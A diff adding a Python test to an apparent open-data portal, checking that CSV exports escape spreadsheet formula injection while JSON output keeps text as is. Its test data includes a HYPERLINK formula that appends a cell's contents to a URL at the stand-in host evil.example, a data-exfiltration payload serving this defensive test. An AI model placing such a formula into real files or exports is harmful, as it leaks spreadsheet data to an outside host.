@@ -22,6 +22,7 @@ from sunlight.portal.datasets import Dataset, Field
 from sunlight.runtime import Runtime
 from sunlight.web.app import create_app
 from tests.portal.support import decide
+from tests.portal.test_areas import _release
 
 SECRETS = ("Jordan Example", "jordan@example.org", "816-555-0100", "Troost")
 
@@ -279,3 +280,23 @@ def test_spanish_catalogue_covers_every_open_data_string() -> None:
         assert spanish.get(text), text
         if "%(title)s" in text:
             assert "%(title)s" in str(spanish[text])
+
+
+def test_a_cell_a_spreadsheet_would_run_is_written_as_text(
+    runtime: Runtime, client: TestClient
+) -> None:
+    """Text from staff records reaches the open data (an incident's unit as the area, a
+    camera's funding source, a unit's name): a cell starting with ``=``, ``+``, ``-``, ``@``
+    (or a tab or carriage return) is a formula to a spreadsheet opening the CSV, so it is
+    written after a ``'``. The JSON keeps the text as it is; numbers are never touched."""
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"Open") Patrol Division'
+    done = _release(runtime, client, "KC26-008009", formula)
+    table = _csv(client, "releases")
+    row = dict(
+        zip(table[0], next(r for r in table[1:] if r[0] == str(done.release_id)), strict=True)
+    )
+    assert row["area"] == "'" + formula
+    assert [r["area"] for r in _json(client, "releases")["rows"]] == [formula]
+    for text, written in [("@SUM(1)", "'@SUM(1)"), ("+1", "'+1"), ("-1", "'-1"), ("\t=1", "'\t=1")]:
+        assert open_data._cell(text) == written
+    assert open_data._cell(-1) == "-1" and open_data._cell("R-2026-000001") == "R-2026-000001"
